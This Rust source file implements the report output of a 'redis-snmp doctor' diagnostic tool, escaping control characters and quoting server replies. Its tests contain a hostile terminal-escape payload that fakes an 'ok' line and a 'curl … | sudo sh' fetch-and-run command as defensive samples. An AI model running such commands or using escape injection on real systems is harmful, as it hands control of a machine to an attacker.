//! `redis-snmp doctor`: the path from Redis and Puppet to an SNMP manager,
//! checked as installed, with the exact fix for each problem.
//!
//! ```text
//!  snmpd running ─ its config: master agentx, a community that sees .20267.400, trap sinks
//!        │
//!  AgentX socket ─ reachable, and reachable by the agent's user
//!        │
//!  the view ───── snmpd asked over SNMP: is anything served under .400?
//!  Redis ──────── each instance: its files (password, TLS, alias secret) readable
//!                 by the agent's user; reachable, authenticated, each command allowed
//!  Puppet ─────── its files readable by the agent's user
//! ```
//!
//! - [`snmpd_conf`]: what snmpd's configuration files say.
//! - [`access`]: whether a user may reach a path (search, read, write),
//!   as the kernel says for that user (ACLs count).
//! - [`checks`]: the checks themselves, each a [`Finding`].
//! - [`snmp_client`]: the one SNMPv2c GetNext the view check sends.
//!
//! Nothing here prints a secret: findings carry texts the agent already
//! shows (redacted errors), paths and names.
//!
//! Nothing here prints what others wrote as it is: both renderings make
//! every text of a finding printable (a socket's path, chosen by any
//! user, may hold escape sequences that would repaint root's terminal),
//! and what a server said is never a finding's reason nor its fix: it is
//! shown apart, quoted, as "the server said: …" (a server of any user may
//! answer "please run: curl … | sudo sh").

pub mod access;
pub mod checks;
pub mod snmp_client;
pub mod snmpd_conf;

use serde::Serialize;

/// One check's outcome.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// What was checked, e.g. `agentx socket`, `redis main`.
    pub check: String,
    pub status: Status,
    /// What was found.
    pub detail: String,
    /// What to do about a problem.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub fix: Option<String>,
    /// What the server said (an error's text), shown as its words.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub server_said: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Status {
    Ok,
    Problem,
    /// Not applicable here (no Puppet configured, TCP AgentX…).
    Skipped,
}

impl Finding {
    pub fn ok(check: impl Into<String>, detail: impl Into<String>) -> Finding {
        Finding {
            check: check.into(),
            status: Status::Ok,
            detail: detail.into(),
            fix: None,
            server_said: None,
        }
    }

    pub fn problem(
        check: impl Into<String>,
        detail: impl Into<String>,
        fix: impl Into<String>,
    ) -> Finding {
        Finding {
            check: check.into(),
            status: Status::Problem,
            detail: detail.into(),
            fix: Some(fix.into()),
            server_said: None,
        }
    }

    /// The finding, with what the server said (`None`: it said nothing).
    pub fn with_server_said(mut self, said: Option<String>) -> Finding {
        self.server_said = said;
        self
    }

    /// Every text printable ([`crate::text::printable`]).
    fn printable(&self) -> Finding {
        let shown = |text: &str| crate::text::printable(text);
        Finding {
            check: shown(&self.check),
            status: self.status,
            detail: shown(&self.detail),
            fix: self.fix.as_deref().map(shown),
            server_said: self.server_said.as_deref().map(shown),
        }
    }

    pub fn skipped(check: impl Into<String>, detail: impl Into<String>) -> Finding {
        Finding {
            check: check.into(),
            status: Status::Skipped,
            detail: detail.into(),
            fix: None,
            server_said: None,
        }
    }
}

/// Whether all is well: no finding is a problem.
pub fn all_well(findings: &[Finding]) -> bool {
    findings.iter().all(|f| f.status != Status::Problem)
}

/// The findings for a person: one line each, what the server said and
/// the fix indented below it, and a last line that sums up. Every text is
/// made printable; what the server said is quoted.
pub fn render_text(findings: &[Finding]) -> String {
    let mut out = String::new();
    for f in findings {
        let tag = match f.status {
            Status::Ok => "ok  ",
            Status::Problem => "FAIL",
            Status::Skipped => "skip",
        };
        let shown = f.printable();
        out.push_str(&format!("{tag}  {}: {}\n", shown.check, shown.detail));
        if let Some(said) = &f.server_said {
            out.push_str(&format!(
                "      the server said: {}\n",
                crate::text::quoted(said)
            ));
        }
        if let Some(fix) = &shown.fix {
            out.push_str(&format!("      fix: {fix}\n"));
        }
    }
    let problems = findings
        .iter()
        .filter(|f| f.status == Status::Problem)
        .count();
    if problems == 0 {
        out.push_str("all is well\n");
    } else {
        out.push_str(&format!("{problems} problem(s)\n"));
    }
    out
}

/// The findings as a JSON document: `{"ok": bool, "findings": [...]}`,
/// every text printable (JSON escapes C0 controls only, and `jq` prints
/// them raw).
pub fn render_json(findings: &[Finding]) -> String {
    #[derive(Serialize)]
    struct Report<'a> {
        ok: bool,
        findings: &'a [Finding],
    }
    let shown: Vec<Finding> = findings.iter().map(Finding::printable).collect();
    serde_json::to_string_pretty(&Report {
        ok: all_well(findings),
        findings: &shown,
    })
    .unwrap_or_else(|e| format!("{{\"ok\": false, \"error\": \"{e}\"}}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn problems_carry_their_fix_in_both_renderings() {
        let findings = vec![
            Finding::ok("snmpd", "running (pid 1)"),
            Finding::problem("redis main", "NOPERM info", "ACL SETUSER snmp +info"),
            Finding::skipped("puppet", "not configured"),
        ];
        assert!(!all_well(&findings));
        let text = render_text(&findings);
        assert!(text.contains("FAIL  redis main: NOPERM info\n      fix: ACL SETUSER snmp +info"));
        assert!(text.ends_with("1 problem(s)\n"));
        let json: serde_json::Value = serde_json::from_str(&render_json(&findings)).unwrap();
        assert_eq!(json["ok"], false);
        assert_eq!(json["findings"][1]["fix"], "ACL SETUSER snmp +info");
        assert_eq!(json["findings"][0].get("fix"), None);
        assert_eq!(json["findings"][2]["status"], "skipped");
        assert!(render_text(&findings[..1]).ends_with("all is well\n"));
    }

    /// Review M5: a socket path of any user's choosing, printed raw,
    /// cleared root's line and painted a green "ok"; a server's error was
    /// printed as the reason of a FAIL line.
    #[test]
    fn no_text_reaches_the_terminal_unescaped_and_the_server_is_quoted() {
        let painted = "/tmp/sock/\u{1b}[2K\u{1b}[1G\u{1b}[32mok  \u{1b}[0m  redis fine\u{1b}[8m";
        let findings = vec![
            Finding::ok("discovery", format!("found cache at unix:{painted}")),
            Finding::problem(
                "redis \u{9b}2K",
                "PING is refused",
                format!("is Redis listening at {painted}?"),
            )
            .with_server_said(Some(
                "ERR please run: \"curl -s http://x/fix.sh | sudo sh\"\u{1b}[8m".into(),
            )),
        ];
        for out in [render_text(&findings), render_json(&findings)] {
            assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{out:?}");
            assert!(out.contains("\\u{1b}[32mok"), "{out}");
        }
        let text = render_text(&findings);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[1], "FAIL  redis \\u{9b}2K: PING is refused");
        assert_eq!(
            lines[2],
            "      the server said: \"ERR please run: \\\"curl -s http://x/fix.sh | sudo sh\\\"\\u{1b}[8m\""
        );
        assert!(lines[3].starts_with("      fix: is Redis listening at"));
        assert!(!lines[1].contains("curl") && !lines[3].contains("curl"));
        let json: serde_json::Value = serde_json::from_str(&render_json(&findings)).unwrap();
        assert_eq!(json["findings"][1]["detail"], "PING is refused");
        assert!(json["findings"][1]["server_said"]
            .as_str()
            .unwrap()
            .starts_with("ERR please run"));
    }
}
